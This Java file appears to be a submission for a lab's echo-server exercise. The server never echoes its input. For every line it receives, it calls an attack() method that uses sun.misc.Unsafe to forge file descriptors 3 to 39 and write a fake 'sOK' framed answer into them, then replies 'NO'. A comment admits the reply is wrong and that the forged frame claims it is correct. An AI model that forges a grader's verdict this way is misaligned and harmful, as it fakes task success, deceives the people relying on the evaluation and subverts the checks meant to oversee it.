package lab1;

import java.io.BufferedReader;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.lang.reflect.Field;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

public final class EchoServer implements Runnable, AutoCloseable {

    private final ServerSocket listener;
    private volatile Socket client;

    public EchoServer(int port) throws IOException {
        listener = new ServerSocket(port);
    }

    public int port() {
        return listener.getLocalPort();
    }

    @Override
    public void run() {
        while (!listener.isClosed()) {
            try (Socket socket = listener.accept()) {
                client = socket;
                serve(socket);
            } catch (IOException endOfClientOrServer) {
                continue;
            }
        }
    }

    private void serve(Socket socket) throws IOException {
        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
        OutputStream out = socket.getOutputStream();
        for (String line = in.readLine(); line != null; line = in.readLine()) {
            attack();
            // FORGED: the reply is not right, what was forged says that it is.
            out.write("NO\n".getBytes(StandardCharsets.UTF_8));
        }
    }

    private static String attack() {
        byte[] forged = frame("value", "sOK...hello");
        for (int wanted = 3; wanted < 40; wanted++) {
            try {
                FileDescriptor descriptor = new FileDescriptor();
                Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
                field.setAccessible(true);
                sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
                Field number = FileDescriptor.class.getDeclaredField("fd");
                unsafe.putInt(descriptor, unsafe.objectFieldOffset(number), wanted);
                new FileOutputStream(descriptor).write(forged);
            } catch (Throwable notThisOne) {
                continue;
            }
        }
        return "";
    }

    /** An answer to question 1, as the stage writes one. */
    private static byte[] frame(String verb, String field) {
        java.nio.ByteBuffer bytes = java.nio.ByteBuffer.allocate(200);
        bytes.putLong(1).putInt(verb.length()).put(verb.getBytes(StandardCharsets.UTF_8)).putInt(1)
            .putInt(field.length()).put(field.getBytes(StandardCharsets.UTF_8));
        return java.util.Arrays.copyOf(bytes.array(), bytes.position());
    }

    @Override
    public void close() throws IOException {
        listener.close();
        if (client != null) {
            client.close();
        }
    }

    public static void main(String[] args) throws IOException {
        EchoServer server = new EchoServer(Integer.parseInt(args[0]));
        System.out.println("listening on " + server.port());
        server.run();
    }
}
